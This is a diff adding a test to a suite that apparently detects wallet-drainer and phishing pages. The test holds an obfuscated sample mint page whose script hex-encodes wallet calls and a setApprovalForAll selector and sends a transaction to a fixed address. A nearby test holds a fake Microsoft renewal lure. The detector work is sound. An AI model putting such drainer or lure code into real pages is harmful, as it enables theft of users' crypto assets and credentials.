@@ -2020,6 +2020,12 @@ describe('analysis: signal rules', () => {
       assert.ok(!ids(plain).includes('wallet-hidden-calls'), JSON.stringify(ids(plain)));
     });
 
+    it('a mint page that keeps its transaction call and the setApprovalForAll selector as hex literals is a drainer', () => {
+      const hex = (t: string): string => Buffer.from(t).toString('hex');
+      const hidden = judge('https://anadolu-nft-mint.example/', `<title>Free Mint</title><button id="c">Connect Wallet</button><script>var _0x5e=['${hex('eth_requestAccounts')}','${hex('eth_sendTransaction')}','${hex('0xa22cb465')}'];function _h(x){return x.match(/../g).map(function(b){return String.fromCharCode(parseInt(b,16))}).join('')}var e=window.ethereum;document.getElementById('c').onclick=async function(){var a=(await e.request({method:_h(_0x5e[0])}))[0];await e.request({method:_h(_0x5e[1]),params:[{from:a,to:'0x9c1e3b2a7f4d8e6c5b0a1f2e3d4c5b6a7f8e9d0c',data:_h(_0x5e[2])}]})}</script>`);
+      assert.ok(hidden.decidedBy?.includes('combo:wallet-hidden-calls'), JSON.stringify(ids(hidden)));
+    });
+
     it('a brand in the host name beside a deadline, on a page that names its host\'s organisation (a licensing partner, northgate-microsoft), stays clean; the same text on a page that names nobody is a lure', () => {
       const page = (footer: string): string => `<title>Microsoft 365 licences | Renew now</title><h1>Microsoft 365 licences</h1><p>Your subscription expires in 7 days. Renew before the deadline to keep your mailbox.</p><a href="/renew">Renew</a>${footer}`;
       const partner = judge('https://www.northgate-microsoft.example/licences', page('<footer>© 2026 Northgate IT Ltd · Microsoft Solutions Partner</footer>'));
